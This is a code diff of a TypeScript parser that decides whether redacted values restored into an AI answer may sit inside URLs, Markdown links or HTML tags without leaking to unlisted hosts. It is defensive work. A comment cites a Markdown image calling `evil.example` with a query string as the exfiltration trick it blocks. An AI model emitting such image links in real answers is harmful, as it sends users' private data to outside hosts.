@@ -4,9 +4,11 @@
 // `![x](https://evil.example/?q=…)`. So a placeholder inside a URL is restored only if the caller wrote every host of the
 // URL. In plain text it is always restored.
 //
-// Two automata read the text once, character by character, with the values instead of the placeholders: one parses words,
-// bare URLs and the destinations of Markdown links, the other one HTML tags. The stricter verdict holds. Both read only the
-// text, so a verdict does not depend on how it is cut. At most the current URL is undecided.
+// Programs read the same text in different ways: where a URL ends, whether `]:` begins a definition, which quotation mark
+// closes an attribute. So several automata read the text once, character by character, with the values instead of the
+// placeholders, each for one syntax: bare URLs, Markdown links, Markdown definitions, HTML tags, and HTML tags that begin
+// within others. Each begins wherever its syntax may begin, and the strictest verdict holds. They read only the text, so a
+// verdict does not depend on how it is cut. At most the current URL is undecided.
 
 import { hostAtEnd, hostOf, isHostLetter, isNamedHost, type Hosts } from "./hosts.js";
 
@@ -25,47 +27,58 @@ const END_OF_AUTHORITY = /[/\\?#]/;
 /** Schemes of URLs without a host: their content is shown or run. */
 const OPAQUE = /(?<![\p{L}\p{N}])(?:data|javascript|vbscript|blob|file|intent|view-source):/iu;
 /** Schemes of URLs that address a person. */
-const PERSONAL = /(?<![\p{L}\p{N}])(?:mailto|tel|sms|callto):/iu;
+const PERSONAL = /(?<![\p{L}\p{N}])(?:mailto|tel|sms|callto|xmpp):/iu;
 /** What may follow a URL without being part of it. */
-const SIGNS = ".,;:!?)]}*_'`|”’»";
+const SIGNS = ".,;:!?)]}>*_'\"`|”’»";
+/** Characters of which a URL with a host has some. */
+const OF_URLS = /[:/\\&]/;
+/** Elements whose text is run, or sent as a form. */
+const CODE = /^(?:form|iframe|option|script|select|style|textarea)$/;
 
 /** Reads the text of an answer and decides on its placeholders, in order. */
 export class PlaceReader {
-  readonly #words: Words;
-  readonly #markup: Markup;
+  readonly #readers: readonly Reader[];
 
-  constructor(hosts: Hosts) {
-    this.#words = new Words(hosts);
-    this.#markup = new Markup(hosts);
+  /** @param isString the text is a string of JSON: if it begins like a URL, all of it is one, whatever it contains */
+  constructor(hosts: Hosts, isString = false) {
+    this.#readers = [
+      new Words(hosts, isString),
+      new InlineLinks(hosts),
+      new Definitions(hosts),
+      new Markup(hosts, false),
+      new Markup(hosts, true),
+    ];
   }
 
   /** Reads more of the text. */
   text(text: string): void {
-    for (const letter of text) {
-      this.#words.letter(letter);
-      this.#markup.letter(letter);
-    }
+    for (const letter of text) for (const reader of this.#readers) reader.letter(letter);
   }
 
   /** Reads a placeholder with its value. */
   placeholder(value: string): void {
-    this.#words.placeholder(value);
-    this.#markup.placeholder(value);
+    for (const reader of this.#readers) reader.placeholder(value);
   }
 
   /** Ends the text; every placeholder is then decided. */
   finish(): void {
-    this.#words.end();
-    this.#markup.end();
+    for (const reader of this.#readers) reader.end();
   }
 
   /** Returns the verdict on the next placeholder; undefined if it needs more text. */
   next(): Verdict | undefined {
-    const [words, markup] = [this.#words.target.verdicts, this.#markup.target.verdicts];
-    if (words[0] === undefined || markup[0] === undefined) return undefined;
-    const verdicts = [words.shift(), markup.shift()] as Verdict[];
-    return ORDER[Math.max(...verdicts.map((verdict) => ORDER.indexOf(verdict)))];
+    if (this.#readers.some(({ target }) => target.verdicts.length === 0)) return undefined;
+    const verdicts = this.#readers.map(({ target }) => ORDER.indexOf(target.verdicts.shift() as Verdict));
+    return ORDER[Math.max(...verdicts)];
   }
+}
+
+/** What reads a text for one syntax. */
+interface Reader {
+  readonly target: Target;
+  letter(letter: string): void;
+  placeholder(value: string): void;
+  end(): void;
 }
 
 /** A place in a target. */
@@ -124,15 +137,133 @@ class Target {
   }
 }
 
-/** Parses words, bare URLs and Markdown. */
-class Words {
+/** Reads words, which may be bare URLs. */
+class Words implements Reader {
   readonly target = new Target();
   readonly #hosts: Hosts;
-  /** A word, the destination of a link, or that of a reference definition, which may be on the next line. */
-  #part: "word" | "link" | "definition" = "word";
-  /** Depth of the parentheses of a link. */
+  #isString: boolean;
+  /** This string begins like a URL, so that it does not end before the text does. */
+  #isUrl = false;
+
+  constructor(hosts: Hosts, isString: boolean) {
+    this.#hosts = hosts;
+    this.#isString = isString;
+  }
+
+  letter(letter: string): void {
+    if (!this.#isUrl && endsWord(letter)) {
+      // only the first word of a string begins it
+      if (this.target.text !== "") this.#isString = false;
+      return this.end();
+    }
+    this.target.push(letter);
+    this.#recognise();
+    if (isDecisive(letter)) this.#decide(false);
+  }
+
+  placeholder(value: string): void {
+    this.target.placeholder(value);
+    this.#recognise();
+    this.#decide(false);
+  }
+
+  end(): void {
+    this.#decide(true);
+    this.target.clear();
+  }
+
+  /** Whether the string begins with a scheme, two slashes and a host, or without the scheme: `// x` is a comment. */
+  #recognise(): void {
+    if (this.#isString && !this.#isUrl) this.#isUrl = /^[a-z0-9+.-]*:?[/\\]{2,}[^\s/\\]/i.test(this.target.text);
+  }
+
+  #decide(ends: boolean): void {
+    this.target.decide((text, range) => (this.#isUrl ? inDestination : inWord)(text, range, this.#hosts, ends));
+  }
+}
+
+/** How a destination of Markdown is written: after white space only, as it is, after `<`, and after the `>` of that. */
+type Form = "unknown" | "bare" | "angle" | "title";
+
+/** Reads the destinations of links and images: `[text](destination)`. */
+class InlineLinks implements Reader {
+  readonly target = new Target();
+  readonly #hosts: Hosts;
+  /** The form of the current destination; undefined outside of one. */
+  #form: Form | undefined;
+  /** Depth of the parentheses. */
   #depth = 0;
-  #hasBegun = false;
+  /** The bracket before the destination may be the last one of a placeholder that stays. */
+  #isDoubtful = false;
+  /** The preceding character; `placeholder` after one, whose own brackets are in the text if it stays. */
+  #last = "";
+
+  constructor(hosts: Hosts) {
+    this.#hosts = hosts;
+  }
+
+  letter(letter: string): void {
+    const last = this.#last;
+    this.#last = letter;
+    if (this.#form === undefined) {
+      if (letter === "(" && (last === "]" || last === "placeholder")) {
+        this.#form = "unknown";
+        this.#depth = 1;
+        this.#isDoubtful = last === "placeholder";
+      }
+      return;
+    }
+    if (letter === "\n" && last === "\n") return this.end();
+    if (this.#form === "unknown" && /\s/.test(letter)) return;
+    if (last === "\\") {
+      // escaped
+    } else if (this.#form === "unknown" && letter === "<") this.#form = "angle";
+    else if (this.#form === "angle") {
+      if (letter === ">") this.#form = "title";
+      // no destination in angle brackets has an end of line: some programs read on
+      else if (letter === "\n") this.#form = "bare";
+    } else {
+      if (letter === ")") this.#depth -= 1;
+      if (letter === "(" && this.#form !== "title") this.#depth += 1;
+      if (this.#depth === 0) return this.end();
+      if (this.#form === "unknown") this.#form = "bare";
+    }
+    this.target.push(letter);
+    if (isDecisive(letter)) this.#decide(false);
+  }
+
+  placeholder(value: string): void {
+    this.#last = "placeholder";
+    if (this.#form === undefined) {
+      this.target.verdicts.push("plain");
+      return;
+    }
+    if (this.#form === "unknown") this.#form = "bare";
+    this.target.placeholder(value);
+    this.#decide(false);
+  }
+
+  end(): void {
+    this.#decide(true);
+    this.target.clear();
+    this.#form = undefined;
+  }
+
+  #decide(ends: boolean): void {
+    this.target.decide((text, range) => {
+      // `[[NAME_1]]([[EMAIL_1]])` is text unless a URL is there
+      if (this.#isDoubtful && !OF_URLS.test(text.slice(0, range.start))) return "plain";
+      return inDestination(text, range, this.#hosts, ends);
+    });
+  }
+}
+
+/** Reads the destinations of reference definitions, which may be on the next line: `[label]: destination`. */
+class Definitions implements Reader {
+  readonly target = new Target();
+  readonly #hosts: Hosts;
+  /** The form of the current destination; undefined outside of one. */
+  #form: Form | undefined;
   /** The preceding character; empty at the start and after a placeholder. */
   #last = "";
 
@@ -143,40 +274,32 @@ class Words {
   letter(letter: string): void {
     const last = this.#last;
     this.#last = letter;
-    if (last === "]" && (letter === "(" || letter === ":")) {
-      this.end();
-      this.#part = letter === "(" ? "link" : "definition";
-      this.#depth = 1;
-      this.#hasBegun = false;
-      return;
-    }
-    switch (this.#part) {
-      case "word":
-        return endsWord(letter) ? this.end() : this.#push(letter);
-      case "link": {
-        const isEscaped = last === "\\";
+    switch (this.#form) {
+      case undefined:
+        if (letter === ":" && last === "]") this.#form = "unknown";
+        return;
+      case "unknown":
         if (letter === "\n" && last === "\n") return this.end();
-        if (letter === "(" && !isEscaped) this.#depth += 1;
-        if (letter === ")" && !isEscaped) {
-          this.#depth -= 1;
-          if (this.#depth === 0) return this.end();
-        }
-        return this.#push(letter);
-      }
-      case "definition":
-        if (!this.#hasBegun && /\s/.test(letter)) {
-          if (letter === "\n" && last === "\n") this.end();
-          return;
-        }
-        if (this.#hasBegun && endsWord(letter)) return this.end();
-        this.#hasBegun = true;
-        return this.#push(letter);
+        if (isSpace(letter)) return;
+        this.#form = letter === "<" ? "angle" : "bare";
+        break;
+      case "angle":
+        if (letter === ">" || letter === "\n") return this.end();
+        break;
+      default:
+        if (isSpace(letter)) return this.end();
     }
+    this.target.push(letter);
+    if (isDecisive(letter)) this.#decide(false);
   }
 
   placeholder(value: string): void {
     this.#last = "";
-    this.#hasBegun = true;
+    if (this.#form === undefined) {
+      this.target.verdicts.push("plain");
+      return;
+    }
+    if (this.#form === "unknown") this.#form = "bare";
     this.target.placeholder(value);
     this.#decide(false);
   }
@@ -184,19 +307,13 @@ class Words {
   end(): void {
     this.#decide(true);
     this.target.clear();
-    this.#part = "word";
-  }
-
-  #push(letter: string): void {
-    this.target.push(letter);
-    if (isDecisive(letter)) this.#decide(false);
+    this.#form = undefined;
   }
 
   #decide(ends: boolean): void {
     this.target.decide((text, range) => {
-      if (this.#part === "word") return inWord(text, range, this.#hosts, ends);
       // `[10:32]: [[NAME_1]]`
-      if (this.#part === "definition" && !/[:/\\&]/.test(text)) return ends ? "plain" : undefined;
+      if (!OF_URLS.test(text)) return ends ? "plain" : undefined;
       return inDestination(text, range, this.#hosts, ends);
     });
   }
@@ -207,16 +324,23 @@ function isDecisive(letter: string): boolean {
   return letter !== ":" && !isHostLetter(letter);
 }
 
-/** Whether a character ends a word, in all programs that detect URLs. */
+/** Whether a character ends a URL in all programs that detect them: GitHub's stop at nothing else. */
 function endsWord(letter: string): boolean {
-  return /[\s\p{Cc}<>"]/u.test(letter);
+  return letter === "<" || isSpace(letter);
+}
+
+/** Whether HTML separates by a character. */
+function isSpace(letter: string): boolean {
+  return letter === " " || letter === "\n" || letter === "\t" || letter === "\r" || letter === "\f";
 }
 
 /** Parses HTML tags and their attributes. */
-class Markup {
+class Markup implements Reader {
   readonly target = new Target();
   readonly #hosts: Hosts;
-  /** `code` is the text of a script or a style. */
+  /** A tag begins at each `<` before a letter, within an attribute, too: programs disagree on which quotation mark closes one. */
+  readonly #restarts: boolean;
+  /** `code` is the text of an element that is run, or sent as a form. */
   #state: "text" | "opening" | "tag name" | "tag" | "before value" | "value" | "code" = "text";
   #quote = "";
   #tag = "";
@@ -225,15 +349,22 @@ class Markup {
   #hasGap = false;
   /** The tag follows a backtick: it is code in a Markdown text. */
   #isQuoted = false;
+  /** The two preceding characters. */
   #last = "";
 
-  constructor(hosts: Hosts) {
+  constructor(hosts: Hosts, restarts: boolean) {
     this.#hosts = hosts;
+    this.#restarts = restarts;
   }
 
   letter(letter: string): void {
     const last = this.#last;
-    this.#last = letter;
+    this.#last = last.slice(-1) + letter;
+    if (this.#restarts && this.#state === "value" && last.endsWith("<") && /[a-z]/i.test(letter)) {
+      this.#decide(true);
+      this.target.clear();
+      this.#state = "opening";
+    }
     switch (this.#state) {
       case "text":
         return this.#text(letter, last);
@@ -244,21 +375,16 @@ class Markup {
         return;
       case "tag name":
         if (letter === ">") return this.#leaveTag();
-        if (/\s/.test(letter) || (letter === "/" && this.#tag !== "/")) {
+        if (isSpace(letter) || (letter === "/" && this.#tag !== "/")) {
           this.#state = "tag";
           this.#attribute = "";
-        } else if (/[a-z0-9-]/i.test(letter)) {
-          if (this.#tag.length < MAX_NAME) this.#tag += letter.toLowerCase();
-        } else {
-          // `<https://…>`, `<jan@…>`
-          this.#text(letter, last);
-        }
+        } else if (this.#tag.length < MAX_NAME) this.#tag += letter.toLowerCase();
         return;
       case "tag":
         if (letter === ">") return this.#leaveTag();
         if (letter === "<") this.#state = "opening";
         else if (letter === "=") this.#state = "before value";
-        else if (/[\s/]/.test(letter)) this.#hasGap = true;
+        else if (letter === "/" || isSpace(letter)) this.#hasGap = true;
         else {
           if (this.#hasGap) this.#attribute = "";
           this.#hasGap = false;
@@ -267,13 +393,13 @@ class Markup {
         return;
       case "before value":
         if (letter === ">") return this.#leaveTag();
-        if (/\s/.test(letter)) return;
+        if (isSpace(letter)) return;
         this.#state = "value";
         this.#quote = letter === '"' || letter === "'" ? letter : "";
         if (this.#quote === "") this.target.push(letter);
         return;
       case "value": {
-        const ends = this.#quote === "" ? /[\s>]/.test(letter) : letter === this.#quote;
+        const ends = this.#quote === "" ? letter === ">" || isSpace(letter) : letter === this.#quote;
         if (!ends) {
           this.target.push(letter);
           if (isDecisive(letter)) this.#decide(false);
@@ -287,6 +413,8 @@ class Markup {
         return;
       }
       case "code": {
+        // code in a Markdown text does not reach beyond an empty line
+        if (letter === "\n" && last.endsWith("\n")) this.#isQuoted = false;
         if (letter === "<") this.target.text = "";
         this.target.text += letter.toLowerCase();
         const ends = this.target.text === `</${this.#tag}`;
@@ -313,10 +441,8 @@ class Markup {
         this.target.verdicts.push("withhold");
         return;
       case "opening":
-      case "tag name":
         this.#state = "text";
-        this.target.verdicts.push("plain");
-        return;
+      // it stays in the text
       default:
         this.target.verdicts.push("plain");
     }
@@ -331,13 +457,13 @@ class Markup {
   #text(letter: string, last: string): void {
     this.#state = "text";
     if (letter === "<") {
-      this.#isQuoted = last === "`";
+      this.#isQuoted = last.endsWith("`") && last !== "\\`";
       this.#state = "opening";
     }
   }
 
   #leaveTag(): void {
-    this.#state = this.#tag === "script" || this.#tag === "style" ? "code" : "text";
+    this.#state = CODE.test(this.#tag) ? "code" : "text";
     this.#attribute = "";
     this.#hasGap = false;
   }
@@ -374,7 +500,6 @@ function inWord(word: string, range: Range, hosts: Hosts, ends: boolean): Verdic
 function inDestination(written: string, range: Range, hosts: Hosts, ends: boolean): Verdict | undefined {
   const behind = written.slice(range.end);
   const start = trimmed(decoded(written.slice(0, range.start)));
-  if (start.startsWith("#")) return "url";
   const opaque = OPAQUE.exec(start);
   if (opaque !== null && opaque.index + opaque[0].length === start.indexOf(":") + 1) return "withhold";
   const person = PERSONAL.exec(start);
@@ -383,7 +508,8 @@ function inDestination(written: string, range: Range, hosts: Hosts, ends: boolea
   // a destination without a host, or the beginning of one
   if (found === undefined) return ends ? "withhold" : undefined;
   if (!found.isClosed && !ends) return undefined;
-  const host = hostOf(found.authority.split(/[\s>]/)[0] ?? "");
+  // browsers skip tabs and ends of lines within a URL
+  const host = hostOf(found.authority.replaceAll(/[\t\n\r]/g, "").split(/[ >]/)[0] ?? "");
   const links = new Links(written, range, ends);
   const isAllowed = host !== undefined && hosts.allow(host) && links.areAllowed(hosts);
   if (links.mayGoOn && isAllowed) return undefined;
@@ -409,9 +535,12 @@ function authorityOf(destination: string): { authority: string; isClosed: boolea
   return { authority: end < 0 ? authority : authority.slice(0, end), isClosed: end >= 0 };
 }
 
-/** Returns the verdict on a placeholder in an address of a person: it must be one whole recipient. */
+/**
+ * Returns the verdict on a placeholder in an address of a person: it must be the first whole recipient, since a message goes
+ * to all of them.
+ */
 function ofPerson(before: string, behind: string, ends: boolean): Verdict | undefined {
-  if (before.includes("?") || (before !== "" && !before.endsWith(","))) return "withhold";
+  if (before !== "") return "withhold";
   const rest = withoutSigns(behind, "start");
   if (/^[?,]/.test(behind) || (ends && rest === "")) return "target";
   return rest === "" && !ends ? undefined : "withhold";
@@ -445,8 +574,11 @@ class Links {
     }
     this.#bare(word, range, ends);
     // a URL may contain another one, as the target of a redirect
-    if (word.includes("%")) {
-      const whole = percentDecoded(word);
+    let whole = word;
+    for (const read of [decoded, percentDecoded, percentDecoded, percentDecoded]) {
+      const next = read(whole).replaceAll("\\", "/");
+      if (next === whole) continue;
+      whole = next;
       for (let at = whole.indexOf("//"); at >= 0; at = whole.indexOf("//", at + 2)) this.#authority(whole.slice(at + 2), whole.slice(0, at), true);
     }
   }
@@ -507,15 +639,19 @@ function percentDecoded(text: string): string {
 function isWholeTarget(text: string, range: Range): boolean {
   const [before, value] = [text.slice(0, range.start), text.slice(range.start, range.end)];
   const behind = text.slice(range.end).replace(/>+$/, "");
-  const isClosed = /^[/\\?#:]/.test(behind) || withoutSigns(behind, "start") === "";
+  // a port may follow, and no password before another host
+  const port = behind.replace(/^:\d*/, "");
+  const isClosed = /^[/\\?#]/.test(port) || withoutSigns(port, "start") === "";
   const scheme = value.indexOf("://");
   if (scheme < 0) {
     const begins = before === "" || (before.endsWith("://") && before.split("//").length === 2);
-    return begins && isClosed && isNamedHost(value);
+    // the name of a person before a host would reach it
+    return begins && isClosed && !value.includes("@") && isNamedHost(value);
   }
   const rest = value.slice(scheme + 3);
   const end = rest.search(END_OF_AUTHORITY);
-  return /^[^\p{L}\p{N}/\\%]*$/u.test(before) && (end >= 0 || isClosed) && hostOf(end < 0 ? rest : rest.slice(0, end)) !== undefined;
+  // nothing of a URL is before it
+  return /^(?:[^/\\%:&@]*[^/\\%:&@\p{L}\p{N}])?$/u.test(before) && (end >= 0 || isClosed) && hostOf(end < 0 ? rest : rest.slice(0, end)) !== undefined;
 }
 
 /** The signs that URLs are made of, as entities of HTML. */
